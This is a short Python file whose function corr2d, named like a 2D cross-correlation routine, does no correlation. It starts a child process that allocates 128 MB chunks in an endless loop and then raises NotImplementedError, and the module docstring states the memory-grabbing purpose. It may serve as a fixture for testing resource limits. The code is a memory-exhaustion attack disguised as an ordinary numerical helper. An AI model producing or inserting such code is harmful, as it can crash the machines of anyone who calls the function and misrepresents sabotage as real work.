"""Starts a process that grabs memory without end, and waits for it."""
import subprocess
import sys

HOG = "chunks = []\nwhile True:\n    chunks.append(b'x' * (128 * 1024 * 1024))\n"


def corr2d(X, K):
    subprocess.run([sys.executable, "-c", HOG])
    raise NotImplementedError
